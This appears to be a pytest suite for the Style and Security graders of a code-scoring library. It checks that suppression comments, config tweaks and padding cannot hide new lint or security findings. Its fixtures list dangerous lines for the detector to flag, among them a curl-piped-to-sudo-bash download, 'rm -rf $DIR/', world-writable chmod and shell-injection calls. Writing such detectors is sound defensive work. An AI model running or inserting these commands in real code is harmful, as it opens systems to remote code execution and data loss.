"""New findings count, however they are suppressed, moved or thinned out; what the task has already does not."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping, Sequence

import pytest

from quintain.grade import Grader, Quality, Security, Style, reward_of
from quintain.tasks import Exam, Item, PythonSuite
from quintain.types import Attempt, HouseError, Passed, Program, Score, TestResult, Verdict

pytest.importorskip("bandit", reason="pip install 'quintain[quality]'")

CLEAN = "def add(a, b):\n    return a + b\n"
UNTIDY = "import os\n\n\ndef add(a, b):\n    if a == None:\n        pass\n    unused = 1\n    return a + b\n"
HIDDEN = PythonSuite(files={"test_it.py": b"from solution import add\ndef test():\n    assert add(1, 2) == 3\n"})


def score(
    grader: Grader, answer: Mapping[str, str], *, given: Mapping[str, str] | None = None,
    oracle: Mapping[str, str] | None = None,
) -> Score:
    def encoded(files: Mapping[str, str]) -> dict[str, bytes]:
        return {path: text.encode() for path, text in files.items()}

    item = Item.sealed(Exam(hidden=HIDDEN, oracle=encoded(oracle) if oracle else None), files=encoded(given or {}),
                       id="add", instructions="Write add.")
    attempt = Attempt(task=item.task, program=Program(files={**item.task.files, **encoded(answer)}))
    (found,) = asyncio.run(grader.grade(attempt, item))
    return found


def value(found: Score) -> float:
    assert found.value is not None, found.evidence
    return found.value


def test_tidy_code_is_neutral_and_untidy_code_is_below():
    assert value(score(Style(), {"solution.py": CLEAN})) == 0.5
    untidy = score(Style(), {"solution.py": UNTIDY})
    assert value(untidy) < 0.3 and "F401" in untidy.evidence


def test_suppressions_and_configuration_change_nothing():
    plain = score(Style(), {"solution.py": UNTIDY})
    quiet = "# ruff: noqa\n" + UNTIDY.replace("import os", "import os  # noqa")
    config = {"ruff.toml": "lint.select = []\n", "pyproject.toml": "[tool.ruff]\nexclude = ['*.py']\n"}
    suppressed = score(Style(), {"solution.py": quiet, **config})
    assert suppressed.evidence.split(" new")[0] == plain.evidence.split(" new")[0] != "0"


def test_what_was_there_before_is_no_news_wherever_it_moved():
    moved = UNTIDY.replace("import os\n", "import os\n\nX = 1\n")
    found = score(Style(), {"solution.py": moved}, given={"solution.py": UNTIDY})
    assert value(found) == 0.5 and found.evidence == "0 new on 1 changed lines"


def test_what_the_reference_does_too_is_no_fault():
    assert value(score(Style(), {"solution.py": UNTIDY}, oracle={"solution.py": UNTIDY})) == 0.5


def test_padding_does_not_thin_findings_out():
    padding = "".join(f"X{n} = {n}\n" for n in range(500))
    padded = score(Style(), {"solution.py": UNTIDY + padding}, oracle={"solution.py": CLEAN})
    assert value(padded) < 0.4


def test_code_that_does_not_compile_is_scored_and_no_code_is_not():
    assert value(score(Style(), {"solution.py": "def add(:\n"})) == 0.0
    assert score(Style(), {"notes.txt": "x"}).value is None


def test_shell_injection_is_found_and_nosec_does_not_hide_it():
    plain = "import subprocess\ndef f(x):\n    return subprocess.call('ls ' + x, shell=True)\n"
    found = score(Security(), {"solution.py": plain})
    hidden = score(Security(), {"solution.py": plain.replace("True)", "True)  # nosec")})
    assert value(found) == value(hidden) == 0.0 and "B602" in hidden.evidence
    assert value(score(Security(), {"solution.py": plain}, given={"old.py": plain})) == 0.5
    assert value(score(Security(), {"solution.py": plain}, oracle={"solution.py": plain})) == 0.5
    assert value(score(Security(), {"solution.py": "def f(x):\n    assert x\n    return x\n"})) == 0.5


@pytest.mark.parametrize(("path", "text", "rule"), [
    ("a.js", "const r = eval(input)", "js-eval"),
    ("a.mjs", "const f = new Function('x', body)", "js-eval"),
    ("a.js", "cp.exec('ls ' + name, done)", "js-shell"),
    ("a.js", "execSync(`rm ${name}`)", "js-shell"),
    ("a.js", "el.innerHTML = text", "js-inner-html"),
    ("a.js", "https.get({rejectUnauthorized: false})", "js-tls-off"),
    ("a.sh", "curl -s https://x.test/i | sudo bash", "sh-pipe-to-shell"),
    ("a.sh", 'eval "$1"', "sh-eval"),
    ("a.sh", "rm -rf $DIR/", "sh-remove-variable"),
    ("a.sh", "chmod -R 777 /srv", "sh-open-to-all"),
])
def test_the_table_finds_dangerous_javascript_and_shell(path: str, text: str, rule: str):
    found = score(Security(), {path: f"{text}\n"})
    assert value(found) < 0.5 and rule in found.evidence


@pytest.mark.parametrize(("path", "text"), [
    ("a.js", "// eval(input) would be wrong"), ("a.js", "const help = 'never call eval(x)'"),
    ("a.js", "const m = regex.exec(text)"), ("a.js", "medieval(x); obj.eval(1)"), ("a.js", "if (a.innerHTML == b) {}"),
    ("a.sh", "# curl x | sh"), ("a.sh", 'evaluate "$1"'), ("a.sh", "rm -rf build/"), ("a.sh", "curl -s x | jq ."),
])
def test_the_table_leaves_harmless_lines_alone(path: str, text: str):
    assert value(score(Security(), {path: f"{text}\n"})) == 0.5


def test_hostile_names_and_texts_do_not_reach_the_analyser():
    found = score(Style(), {"--fix.py": CLEAN, "-x/../é.py": UNTIDY, "big.py": "x = 1\n" * 200_000})
    assert "é.py" in found.evidence
    deep = score(Security(), {"solution.py": "x = " + "(" * 5000 + ")" * 5000})
    assert deep.value is not None or deep.evidence


class _Known:
    """A grader that says what it was told to, after a while."""

    def __init__(self, name: str, *, seconds: float = 0.0, error: HouseError | None = None) -> None:
        self.name, self._seconds, self._error = name, seconds, error

    async def grade(self, attempt: Attempt, item: Item) -> Sequence[Score]:
        await asyncio.sleep(self._seconds)
        if self._error is not None:
            raise self._error
        return (Score(name=self.name, value=1.0, weight=0.05),)


def _graded(*graders: Grader, seconds: float = 60.0) -> Sequence[Score]:
    item = Item.sealed(Exam(hidden=HIDDEN), id="add", instructions="Write add.")
    attempt = Attempt(task=item.task, program=Program(files={"solution.py": CLEAN.encode()}))
    return asyncio.run(Quality(*graders, seconds=seconds).grade(attempt, item))


def test_graders_run_together_and_their_scores_enter_the_reward():
    scores = _graded(Style(), _Known("late", seconds=0.01), Security())
    assert [s.name for s in scores] == ["style", "late", "security"]
    tests = (TestResult(id="a", passed=Passed.PASSED),)
    verdict = Verdict(suite="s", level="L4", tests=tests)
    with_scores, without = reward_of(verdict, scores=scores), reward_of(verdict)
    assert with_scores is not None and without is not None and with_scores.total > without.total


def test_a_grader_that_takes_too_long_has_not_measured_and_one_that_fails_is_the_houses():
    scores = _graded(_Known("endless", seconds=60.0), _Known("quick"), seconds=0.05)
    assert [(s.name, s.value) for s in scores] == [("endless", None), ("quick", 1.0)]
    from quintain.types import FaultKind
    with pytest.raises(HouseError, match="broken"):
        _graded(_Known("quick"), _Known("bad", error=HouseError(FaultKind.VERIFIER_ERROR, "broken")))
    with pytest.raises(ValueError, match="twice: style"):
        Quality(Style(), Style())
